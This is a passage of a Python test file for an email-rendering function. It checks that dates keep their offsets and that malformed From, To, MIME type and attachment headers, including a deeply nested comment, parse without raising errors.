    raw = f"From: {DOCTOR}\r\nDate: {date}\r\nSubject: x\r\n\r\ncorps\r\n".encode()
    shown = render.render(raw)
    assert (shown.date, shown.from_address, shown.subject, shown.text) == (None, DOCTOR, "x", "corps\r\n")


def test_date_keeps_its_offset() -> None:
    raw = f"From: {DOCTOR}\r\nDate: Wed, 4 Mar 2026 10:30:00 +0100\r\n\r\ncorps\r\n".encode()
    date = render.render(raw).date
    assert date == DATE
    assert date is not None
    assert date.utcoffset() == timedelta(hours=1)
    assert date.astimezone(UTC) == datetime(2026, 3, 4, 9, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("header", "name", "address"),
    [
        ("<<@>>, ,;:", "", ""),
        ("a@b@c", "", ""),
        ("@", "", ""),
        ("", "", ""),
        ("Dr Martin", "", ""),  # no address
        ("=?utf-8?b?!!!?= <Claire.Martin@ch-test.mssante.fr>", "", DOCTOR),
        ("=?utf-8?q?Dr_Claire_Martin?= <claire.martin@ch-test.mssante.fr>", "Dr Claire Martin", DOCTOR),
        ('"Martin, Claire" <claire.martin@ch-test.mssante.fr>, autre@ch.fr', "Martin, Claire", DOCTOR),
        ("(" * 3000 + ")" * 3000 + f" <{DOCTOR}>", "", ""),  # the header parser recurses per comment level
    ],
)
def test_broken_from_does_not_raise(header: str, name: str, address: str) -> None:
    raw = f"From: {header}\r\nTo: ,,<>\r\nReply-To: <\r\nMessage-ID: <\r\nSubject: x\r\n\r\ncorps\r\n".encode()
    shown = render.render(raw)
    assert (shown.from_name, shown.from_address, shown.to, shown.reply_to) == (name, address, (), ())
    assert (shown.subject, shown.text) == ("x", "corps\r\n")


def test_message_without_any_header() -> None:
    shown = render.render(b"\r\njuste un corps\r\n")
    assert shown == render.Rendered("", "", (), (), "", None, None, "", text="juste un corps\r\n")


def test_broken_content_type_and_disposition_do_not_raise() -> None:
    raw = (
        f"From: {DOCTOR}\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        "--B\r\nContent-Type: text/plain; charset=\r\n\r\ncorps\r\n"
        "--B\r\nContent-Type: application/pdf; name=\r\n"
        "Content-Disposition: attachment; filename*=bogus''%ZZ\r\n\r\nPDF\r\n"
        "--B\r\nContent-Type: texte\r\nContent-Disposition: ;;;\r\n\r\nbizarre\r\n"
        "--B--\r\n"
    ).encode()
    shown = render.render(raw)

    assert shown.text == "corps"  # the CRLF before a boundary belongs to the boundary (RFC 2046 §5.1.1)
    assert [(a.part, a.filename, a.content_type, a.size) for a in shown.attachments] == [
        (2, "%ZZ", "application/pdf", 3),
        (3, "piece-jointe-3", "text/plain", 7),  # an invalid type is text/plain (RFC 2045 §5.2)
    ]
